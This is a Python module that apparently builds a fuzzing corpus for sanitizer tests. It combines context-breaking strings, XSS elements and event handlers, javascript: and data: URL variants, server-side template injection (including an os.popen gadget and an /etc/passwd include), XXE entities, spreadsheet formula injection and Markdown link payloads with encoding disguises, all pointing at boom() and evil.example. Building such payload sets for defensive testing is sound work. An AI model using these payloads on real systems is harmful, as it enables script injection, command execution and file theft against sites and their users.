"""Hostile texts, made by combining: what breaks out of its place, what would run there, and how it is disguised.

Whatever runs would call ``boom()`` or ``alert()``, or ask for something at ``evil.example``.
"""

from __future__ import annotations

import html
from collections.abc import Callable, Iterator
from itertools import cycle, product
from urllib.parse import quote

CALL = "boom()"
FOREIGN = "https://evil.example/x"

# What ends the place that a text stands in: an element, an attribute, a string, a comment, a block of data.
_BREAKS = (
    *("", '"', "'", '">', "'>", "`>", '"/>', ">", "-->", "]]>", "?>", "*/", "\\", '\\"', "\\'", "&quot;>", "&#34;>"),
    *("</title>", "</script>", "</style>", "</textarea>", "</p></main></body>", "</abbr></a>", "</td></tr></table>"),
)

_ELEMENTS = (
    *("<script>{call}</script>", "<script src={url}></script>", "<script>alert(1)//", "<img src=x onerror={call}>"),
    *("<img src={url}>", "<svg onload={call}>", "<svg><script>{call}</script></svg>", "<svg><a xlink:href={js}>x</a>"),
    *("<svg><animate onbegin={call} attributeName=x dur=1s>", "<body onload={call}>", "<iframe src={js}></iframe>"),
    *("<iframe srcdoc='<script>parent.{call}</script>'>", "<object data={url}></object>", "<embed src={url}>"),
    *("<a href={js}>x</a>", "<a href={url} ping={url}>x</a>", "<form action={js}><button autofocus>x</button></form>"),
    *("<input autofocus onfocus={call}>", "<select autofocus onfocus={call}>", "<details open ontoggle={call}>x"),
    *(
        "<video src=x onerror={call}>",
        "<audio src={url} autoplay>",
        "<video poster={url}>",
        "<link rel=icon href={url}>",
    ),
    *("<style>@import '{url}';*{{display:none}}</style>", "<link rel=stylesheet href={url}>", "<base href={url}>"),
    *(
        "<meta http-equiv=refresh content='0;url={url}'>",
        "<div style='position:fixed;inset:0'>",
        "<marquee onstart={call}>",
    ),
    *("<math><mtext><img src=x onerror={call}></mtext></math>", "<template><img src={url}></template>", "<plaintext>"),
    *("<table background={url}>", "<xmp><img src=x onerror={call}></xmp>", "<noscript><img src={url}></noscript>"),
    *("<p id=q onclick={call}>x</p>", "<button popovertarget=x onclick={call}>x", "<!--><img src=x onerror={call}>"),
    *(
        " onmouseover={call} ",
        " autofocus onfocus={call} x=",
        " style=background:url({url}) ",
        " src={url} onerror={call} ",
    ),
)

_SCRIPTS = (
    *("{call}", ";{call}//", "-{call}-", "${{{call}}}", "{{{{{call}}}}}", "{{% include '/etc/passwd' %}}", "{{# x #}}"),
    *(
        "{{{{ cycler.__init__.__globals__.os.popen('{call}') }}}}",
        "{{{{ 7*7 }}}}",
        "#{{7*7}}",
        "<%= 7*7 %>",
        "${{7*7}}",
    ),
    *('"}});{call};({{"', '"]}}</script><script>{call}</script>', "\\u0022}});{call}//", "__proto__", "constructor"),
    *(
        "[object Object]",
        "toString",
        "hasOwnProperty",
        "{{query}}",
        "{{count}}",
        "&#x3c;script&#x3e;{call}",
        "&{{{call}}};",
    ),
    *(
        "<![CDATA[{call}]]>",
        "<!ENTITY x SYSTEM '{url}'>",
        "<!DOCTYPE x [<!ENTITY y 'z'>]>",
        "&y;&lt;b&gt;",
        "<?xml-stylesheet?>",
    ),
    *(
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("{url}")',
        "+1+1",
        "-2+3",
        "@SUM(1)",
        "\t=1+1",
        "＝1+1",
        "%s%d%n",
        "%(name)s",
        "{{0}}",
    ),
)

_DISGUISES: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    lambda text: "".join(c.upper() if n % 2 else c for n, c in enumerate(text)),
    html.escape,
    lambda text: text.replace("<", "&#60").replace(">", "&#x3E;"),
    lambda text: text.replace("<", "＜").replace(">", "＞"),
    lambda text: quote(text, safe=" ()"),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\x3e"),
    lambda text: text.replace(" ", "/").replace("=", "\t=\t"),
    lambda text: text.replace("<", "<<").replace(">", ">>"),
    lambda text: text.replace("script", "scr<b>ipt").replace("on", "o\tn"),
)

_SCHEMES = (
    *(
        "javascript:{call}",
        "JaVaScRiPt:{call}",
        "java&#115;cript:{call}",
        "java\tscript:{call}",
        "javascript&colon;{call}",
    ),
    *(
        "&#106;avascript:{call}",
        "javascript&#58;{call}",
        "java%73cript:{call}",
        "vbscript:{call}",
        "data:text/html,<script>{call}</script>",
    ),
    *(
        "data:image/svg+xml,<svg onload={call}>",
        "blob:{url}",
        "file:///etc/passwd",
        "//evil.example/x",
        "\\\\evil.example\\x",
    ),
    *(
        "https:evil.example",
        "https://ban-tin.example@evil.example/",
        "view-source:{url}",
        "javascript://%0a{call}",
        "?javascript:{call}",
    ),
)

_LINKS = (
    *(
        "[x]({url})",
        "[x](<{url}>)",
        "![x]({url})",
        "[x]({url} 'x' onclick={call})",
        '[x]({url} "\\" onclick={call} \\"")',
    ),
    *("[x][y]\n\n[y]: {url}", "<{url}>", "[![x]({url})]({url})", "[x]({url}){{: onclick={call} }}", "**[x]({url})**"),
    *(
        "[`x`]({url})",
        "[<b>x</b>]({url})",
        "> [x]({url})",
        "- [x]({url})",
        "| x |\n|---|\n| [x]({url}) |",
        "## [x]({url})",
    ),
)


def make_payloads() -> list[str]:
    """Return more than a thousand texts of one line, none twice, in a fixed order, without blanks at their ends."""
    return list(dict.fromkeys(text for text in map(str.strip, _combine()) if text and "\n" not in text))


def make_addresses() -> list[str]:
    """Return what may stand where an address is expected, and must never become one."""
    return list(dict.fromkeys(_fill(scheme) for scheme in _SCHEMES))


def make_markdown() -> list[str]:
    """Return links and pictures in Markdown that lead where nothing may lead, and all other payloads."""
    made = [link.format(url=_fill(scheme), call=CALL) for link, scheme in product(_LINKS, _SCHEMES)]
    return list(dict.fromkeys([*made, *make_payloads()]))


def _combine() -> Iterator[str]:
    disguises = cycle(_DISGUISES)
    for element, breaking in product(_ELEMENTS, _BREAKS):
        yield next(disguises)(breaking + _fill(element))
        if not breaking:
            yield _fill(element)
    for script, breaking in product(_SCRIPTS, _BREAKS[:12]):
        yield breaking + _fill(script)
    yield from make_addresses()


def _fill(shape: str) -> str:
    return shape.format(call=CALL, url=FOREIGN, js=f"javascript:{CALL}")
